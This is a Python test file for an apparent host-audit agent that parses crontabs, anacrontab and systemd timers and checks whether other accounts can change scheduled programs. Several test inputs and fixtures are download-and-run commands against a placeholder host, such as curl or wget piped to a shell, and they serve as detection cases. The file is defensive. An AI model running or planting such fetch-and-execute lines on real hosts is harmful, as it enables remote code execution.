"""Jobs of cron and timers: what they run, and who else may change it."""

import os
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.facts.roots import Link, mounted
from tests.unit.properties import thorough
from tests.unit.slowness import slowness

from vonggac_agent.facts.system import changeable, cron_access, cron_jobs, cron_syntax, systemd_timers
from vonggac_agent.facts.system.cron_syntax import Job
from vonggac_contract.facts.schedule import CronAccess, CronJob, CronJobs, CronSpool, SystemdTimers

DEBIAN = """\
SHELL=/bin/sh
# You can also override PATH, but by default, newer versions inherit it from the environment
#PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
@reboot backup /usr/local/bin/backup --password=secret%input
"""
Files = dict[str, str | bytes | Link]


def test_jobs_are_told_from_variables_and_comments() -> None:
    assert cron_syntax.crontab(DEBIAN, with_user=True) == [
        Job(5, "root", "cd / && run-parts --report /etc/cron.hourly"),
        Job(6, "root", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"),
        Job(7, "backup", "/usr/local/bin/backup --password=secret"),
    ]
    assert cron_syntax.crontab("*/5 * * * * /bin/x\nMAILTO = a\n5 5 * *\n", with_user=False) == [
        Job(1, "", "/bin/x")
    ]
    assert cron_syntax.anacrontab(
        "START_HOURS_RANGE=3-22\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n"
    ) == [Job(2, "root", "nice run-parts /etc/cron.daily")]


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("/usr/bin/a /etc/b", ["/usr/bin/a"]),
        ("cd /srv && ./x; /bin/y | /bin/z", ["/bin/y", "/bin/z"]),
        ("[ -x /usr/sbin/a ] && /usr/sbin/a > /tmp/out 2>&1", ["/usr/sbin/a"]),
        ("nice -n 19 ionice -c3 /opt/a", ["/opt/a"]),
        ("FOO=/x timeout 5m env A=b /opt/a", ["/opt/a"]),
        ("bash /home/an/job.sh /data", ["/home/an/job.sh"]),
        ("/usr/bin/python3 -u /srv/job.py", ["/usr/bin/python3", "/srv/job.py"]),
        ("su - www -c '/srv/a.sh /b'", ["/srv/a.sh"]),
        ('bash -lc "cd / && /srv/a.sh"', ["/srv/a.sh"]),
        ("run-parts --report /etc/cron.daily", ["/etc/cron.daily"]),
        ("if [ -d /a ]; then /srv/a.sh; fi", ["/srv/a.sh"]),
        ("echo '/bin/never ; /bin/neither'", []),
    ],
)
def test_the_programs_of_a_command_line_are_found(command: str, programs: list[str]) -> None:
    assert cron_syntax.programs(command) == programs


@pytest.mark.parametrize(
    ("command", "fetches"),
    [
        ("curl -fsSL http://x.example/a.sh | bash", True),
        ("wget -qO- http://x.example/a | sudo sh -s", True),
        ("sh -c 'curl http://x.example | sh'", True),
        ('bash -c "$(curl http://x.example)"', True),
        ("bash <(curl -s http://x.example)", True),
        ("wget -O /tmp/a http://x.example && /tmp/a", True),
        ("wget -O /tmp/a http://x.example && sh /tmp/a", True),
        ("curl http://x.example/feed > /srv/feed", False),
        ("curl http://x.example/feed | gzip > /srv/feed.gz", False),
        ("/bin/a | sh", False),
        ("curl http://x.example || sh /srv/alarm.sh", False),
        ("/srv/curl-feed.sh", False),
    ],
)
def test_running_what_was_fetched_is_seen(command: str, fetches: bool) -> None:
    assert cron_syntax.runs_what_it_fetched(command) is fetches


def tree(folder: Path, files: Files) -> None:
    base: Files = {
        "etc/passwd": "root:x:0:0::/root:/bin/sh\nan:x:4242:4242::/home/an:/bin/sh\n",
        "etc/group": "root:x:0:\nstaff:x:50:\nops:x:60:an\n",
    }
    mounted(folder, base | files)
    for path in folder.rglob("*"):
        if not path.is_symlink():
            path.chmod(0o755 if path.is_dir() else 0o644)
    folder.chmod(0o755)


@pytest.fixture
def as_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A root whose files all count as root's, whoever runs the test."""
    real = os.stat

    def stat(path: str, **how: bool) -> os.stat_result:
        told = real(path, **how)
        return os.stat_result((*told[:4], 0, 0, *told[6:]))

    monkeypatch.setattr(os, "stat", stat)
    return tmp_path


def test_a_program_is_changeable_by_its_permissions_and_those_above_it(as_root: Path) -> None:
    tree(
        as_root,
        {"opt/safe": "", "opt/open": "", "srv/open/a": "", "var/tmp/own": "", "link": Link("/srv/open/a")},
    )
    (as_root / "opt/open").chmod(0o646)
    (as_root / "srv/open").chmod(0o777)
    (as_root / "var/tmp").chmod(0o1777)
    host = mounted(as_root, {})
    answers = {
        path: changeable.by_others(host, path)
        for path in (
            "/opt/safe",
            "/opt/open",
            "/srv/open/a",
            "/link",
            "/var/tmp/own",
            "/var/tmp/missing",
            "/opt/missing",
            "/srv/x/y",
        )
    }
    assert answers == {
        "/opt/safe": False,
        "/opt/open": True,
        "/srv/open/a": True,
        "/link": True,
        "/var/tmp/own": False,
        "/var/tmp/missing": True,
        "/opt/missing": False,
        "/srv/x/y": False,
    }


def test_a_group_counts_if_it_has_members(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tree(tmp_path, {"opt/a": "", "opt/b": ""})
    (tmp_path / "opt/a").chmod(0o664)
    (tmp_path / "opt/b").chmod(0o664)
    real = os.stat

    def stat(path: str, **how: bool) -> os.stat_result:
        told = real(path, **how)
        group = 60 if os.fspath(path).endswith("/a") else 50
        return os.stat_result((*told[:4], 0, group, *told[6:]))

    monkeypatch.setattr(os, "stat", stat)
    host = mounted(tmp_path, {})
    assert [changeable.by_others(host, p) for p in ("/opt/a", "/opt/b")] == [True, False]


def test_a_program_of_an_account_is_changeable_by_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tree(tmp_path, {"home/an/job": ""})
    real = os.stat

    def stat(path: str, **how: bool) -> os.stat_result:
        told = real(path, **how)
        return os.stat_result((*told[:4], 4242 if "/home/an" in os.fspath(path) else 0, 0, *told[6:]))

    monkeypatch.setattr(os, "stat", stat)
    host = mounted(tmp_path, {})
    assert changeable.by_others(host, "/home/an/job") is True
    assert changeable.by_others(host, "/home/an/job", uid=4242) is False


def test_every_place_that_cron_looks_at_is_read(as_root: Path) -> None:
    tree(
        as_root,
        {
            "usr/sbin/cron": "",
            "etc/crontab": DEBIAN,
            "etc/cron.d/feed": "5 * * * * an curl http://x.example | sh\n",
            "etc/cron.d/feed.dpkg-old": "5 * * * * root /never\n",
            "etc/cron.d/.hidden": "5 * * * * root /never\n",
            "etc/anacrontab": "1 5 daily /opt/daily\n",
            "etc/cron.daily/job": "#!/bin/sh\n",
            "etc/cron.daily/not-executable": "",
            "var/spool/cron/crontabs/an": "@hourly /home/an/job\n",
            "opt/daily": "",
        },
    )
    (as_root / "etc/cron.daily/job").chmod(0o757)
    found, _ = cron_jobs.gather(mounted(as_root, {}), ())
    assert isinstance(found, CronJobs)
    assert found.jobs[1:] == [
        CronJob("/etc/crontab", 6, "root", "/etc/cron.daily", [], False),
        CronJob("/etc/crontab", 7, "backup", "/usr/local/bin/backup", [], False),
        CronJob("/etc/cron.d/feed", 1, "an", "", [], True),
        CronJob("/etc/anacrontab", 1, "root", "/opt/daily", [], False),
        CronJob("/var/spool/cron/crontabs/an", 1, "an", "/home/an/job", [], False),
        CronJob("/etc/cron.daily/job", 0, "root", "/etc/cron.daily/job", ["/etc/cron.daily/job"], False),
    ]
    assert "secret" not in repr(found)


def test_without_cron_there_are_no_jobs(tmp_path: Path) -> None:
    assert cron_jobs.gather(mounted(tmp_path, {"etc/crontab": DEBIAN}), ())[0] == CronJobs(installed=False)


@pytest.mark.parametrize(
    ("allow", "deny", "who"),
    [
        (None, None, "all"),
        ([], ["an"], "root"),
        (["root"], None, "root"),
        (["root", "an"], [], "listed"),
        (None, [], "all"),
        (None, ["an"], "all-but-listed"),
    ],
)
def test_who_may_schedule_is_told_by_the_two_files(
    allow: list[str] | None, deny: list[str] | None, who: str
) -> None:
    assert cron_access.who(allow, deny, neither="all") == who


def test_access_files_and_spools_are_judged(as_root: Path) -> None:
    tree(
        as_root,
        {
            "usr/sbin/crond": "",
            "usr/sbin/atd": "",
            "etc/cron.allow": "root\nan\n",
            "etc/at.deny": "",
            "var/spool/cron/an": "",
            "var/spool/cron/gone": "",
        },
    )
    (as_root / "etc/at.deny").chmod(0o666)
    (as_root / "var/spool/cron/an").chmod(0o600)
    found, _ = cron_access.gather(mounted(as_root, {}), ())
    assert found == CronAccess(
        cron=True,
        cron_who="listed",
        cron_users=["root", "an"],
        cron_files_safe=True,
        at=True,
        at_who="all",
        at_users=[],
        at_files_safe=False,
        crontabs=[
            CronSpool("/var/spool/cron/an", "an", True, True, "0600", False),
            CronSpool("/var/spool/cron/gone", "gone", False, True, "0644", True),
        ],
    )


def test_a_crontab_of_a_directorys_account_is_nobodys_for_sure(as_root: Path) -> None:
    tree(
        as_root,
        {"usr/sbin/crond": "", "var/spool/cron/li": "", "etc/nsswitch.conf": "passwd: files sss systemd\n"},
    )
    (as_root / "var/spool/cron/li").chmod(0o600)
    found, _ = cron_access.gather(mounted(as_root, {}), ())
    assert [(tab.account, tab.own) for tab in found.crontabs] == [(None, True)]


def test_timers_are_told_with_what_they_start(as_root: Path) -> None:
    tree(
        as_root,
        {
            "usr/lib/systemd/system/a.timer": "[Timer]\nOnCalendar=daily\nOnBootSec=5min\n"
            "[Install]\nWantedBy=timers.target\n",
            "usr/lib/systemd/system/a.service": "[Service]\nExecStart=-/opt/a --fast\nExecStartPost=+/opt/open\n",
            "etc/systemd/system/timers.target.wants/a.timer": Link("/usr/lib/systemd/system/a.timer"),
            "etc/systemd/system/b.timer": "[Timer]\nUnit=other.service\n[Install]\nWantedBy=timers.target\n",
            "opt/a": "",
            "opt/open": "",
        },
    )
    (as_root / "opt/open").chmod(0o777)
    found, _ = systemd_timers.gather(mounted(as_root, {}), ())
    assert isinstance(found, SystemdTimers)
    a, b = found.timers
    assert (a.name, a.enabled, a.activates, a.schedule) == ("a.timer", True, "a.service", ["daily", "5min"])
    assert (a.programs, a.changeable) == (["/opt/a", "/opt/open"], ["/opt/open"])
    assert (b.enabled, b.activates, b.programs) == (False, "other.service", [])


JOBS = st.lists(
    st.tuples(
        st.sampled_from(("@daily", "*/5 * * * *", "0 3 1-7 jan mon")),
        st.sampled_from(("root", "an", "www-data")),
        st.sampled_from(("/opt/a", "cd / && /opt/a -x", "bash -c '/opt/a; b'", "echo a=b")),
    ),
    max_size=4,
)


@given(JOBS, st.booleans())
@thorough
def test_jobs_written_out_are_read_back(jobs: list[tuple[str, str, str]], with_user: bool) -> None:
    text = "".join(
        f"# {when}\n  {when}\t{user + ' ' if with_user else ''}{command}\nX=y z\n"
        for when, user, command in jobs
    )
    found = cron_syntax.crontab(text, with_user=with_user)
    assert [(job.user, job.command) for job in found] == [
        (user if with_user else "", command) for _, user, command in jobs
    ]


MARKS = ("sh", "-c", "'", '"', "|", "$(", "`", "curl ", "/a", " ", "\n", "@daily ", "%", "=")
PIECE = st.sampled_from(MARKS) | st.text(max_size=3)


@pytest.mark.hostile
@given(st.lists(PIECE, max_size=12).map("".join))
@thorough
def test_any_text_is_read_as_crontab_and_command(text: str) -> None:
    cron_syntax.crontab(text, with_user=True)
    cron_syntax.anacrontab(text)
    cron_syntax.programs(text)
    cron_syntax.runs_what_it_fetched(text)


@pytest.mark.parser
@pytest.mark.hostile
@pytest.mark.parametrize("piece", ["a | ", "'", '"a', "sh -c '", "$(", 'curl | sh -c "', "=", "/", "a b "])
def test_the_longest_crontab_costs_less_than_a_second(piece: str) -> None:
    text = piece * (cron_syntax.MAX_CHARACTERS // len(piece))
    started = time.process_time()
    cron_syntax.programs(text)
    cron_syntax.runs_what_it_fetched(text)
    assert time.process_time() - started < 1 * slowness()


@pytest.mark.parser
@pytest.mark.hostile
def test_jobs_without_end_are_refused() -> None:
    started = time.process_time()
    with pytest.raises(ValueError, match="over 20000 jobs"):
        cron_syntax.crontab("@daily a\n" * 25_000, with_user=False)
    with pytest.raises(ValueError, match="over 262144 characters"):
        cron_syntax.crontab("* * * * * /bin/a\n" * 600_000, with_user=False)
    assert time.process_time() - started < 1 * slowness()
